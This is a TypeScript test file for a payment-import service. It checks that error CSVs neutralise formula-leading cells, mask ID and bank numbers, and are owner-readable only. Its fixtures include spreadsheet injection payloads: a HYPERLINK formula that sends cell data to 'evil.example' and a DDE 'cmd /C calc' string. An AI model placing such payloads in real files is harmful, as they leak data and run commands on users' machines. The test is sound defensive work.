// The error file is personal data opened in Excel: risky cells neutralised, ID numbers and bank
// accounts masked, readable by the owner only (issue 14, finding 8).
import fs from 'node:fs';
import path from 'node:path';

import Papa from 'papaparse';
import { afterAll, describe, expect, it } from 'vitest';

import { createPrismaClient } from '../../infra/db/client.js';
import { neutraliseFormula, safeCell } from '../../services/import/error-file.js';
import { maskBankCard, maskIdNumber } from '../../domain/identity/index.js';
import { runImport, tag, tempDir, uniqueId, writeCsvFile, PAYMENT_HEADER, ROSTER_HEADER } from './import-support.js';
import { testDatabaseUrl } from '../support/database.js';

const prisma = createPrismaClient(testDatabaseUrl());
const tmp = tempDir();
afterAll(async () => {
  await prisma.$disconnect();
  tmp.cleanup();
});

describe('neutralising a cell', () => {
  it('prefixes = + - @ tab and CR with an apostrophe, leaves other text alone', () => {
    for (const risky of ['=HYPERLINK("http://x","y")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1']) expect(neutraliseFormula(risky)).toBe(`'${risky}`);
    for (const plain of ['张三', '680', '2024-05', '', ' =1', '本户']) expect(neutraliseFormula(plain)).toBe(plain);
  });
  it('masks by column and any long number elsewhere', () => {
    const id = uniqueId();
    expect(safeCell(id, 'idNumber')).toBe(maskIdNumber(id));
    expect(safeCell('6217 0000 1111 2222 333', 'account')).toBe(maskBankCard('6217000011112222333'));
    expect(safeCell(`备注 ${id}`)).toBe(`备注 ${maskIdNumber(id)}`);
  });
});

describe('the error file of an import', () => {
  it('payments: formula cells neutralised, head ID and account masked, mode 0600 (also over an older file)', async () => {
    const county = `错误文件测试县${tag()}`;
    const one = uniqueId();
    const stranger = uniqueId();
    const roster = writeCsvFile(path.join(tmp.dir, 'roster.csv'), ROSTER_HEADER, [
      ['一镇', '一村', '单一', one, '单一', one, '本人', '城市低保', '', 680, '2020-01-01', ''],
    ]);
    expect((await runImport(prisma, { kind: 'roster', file: roster, county })).status).toBe('imported');
    const account = '6217000011112222333';
    const file = writeCsvFile(path.join(tmp.dir, 'payments.csv'), PAYMENT_HEADER, [
      /* 2 */ [one, '', '2024-05', 680, 680, '2024-05-08', '本户', ''],
      /* 3 */ [stranger, '', '2024-05', 680, 680, '2024-05-08', '=HYPERLINK("http://evil.example/?"&A1,"点此")', account],
      /* 4 */ [one, '', '2024-06', 680, '@SUM(1+1)*cmd|\' /C calc\'!A0', '2024-06-08', '+本户', ''],
      /* 5 */ [one, '', '2024-07', '-680', 680, '2024-07-08', '本户', `${account}`],
    ]);
    const errorPath = `${file}.错误行.csv`;
    fs.writeFileSync(errorPath, 'old', { mode: 0o644 });
    fs.chmodSync(errorPath, 0o644);
    const r = await runImport(prisma, { kind: 'payments', file });
    expect(r.status).toBe('rejected');
    expect(r.errorFile).toBe(errorPath);
    expect(fs.statSync(errorPath).mode & 0o777).toBe(0o600);

    const text = fs.readFileSync(errorPath, 'utf8');
    expect(text).not.toContain(stranger);
    expect(text).not.toContain(account);
    expect(text).not.toContain(one);
    const lines = Papa.parse<string[]>(text.replace(/^\ufeff/, ''), { skipEmptyLines: true }).data;
    expect(lines.slice(1).map((l) => Number(l[0]))).toEqual([3, 4, 5]);
    // No cell starts with a formula character.
    for (const l of lines.slice(1)) for (const cell of l) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const byLine = new Map(lines.slice(1).map((l) => [Number(l[0]), l]));
    expect(byLine.get(3)![2]).toBe(maskIdNumber(stranger));
    expect(byLine.get(3)![9]).toBe(maskBankCard(account));
    expect(byLine.get(3)![8]).toMatch(/^'=HYPERLINK/);
    expect(byLine.get(4)![6]).toMatch(/^'@SUM/);
    expect(byLine.get(4)![8]).toBe(`'+本户`);
    expect(byLine.get(5)![5]).toBe(`'-680`);
    expect(byLine.get(5)![9]).toBe(maskBankCard(account));
  });
});
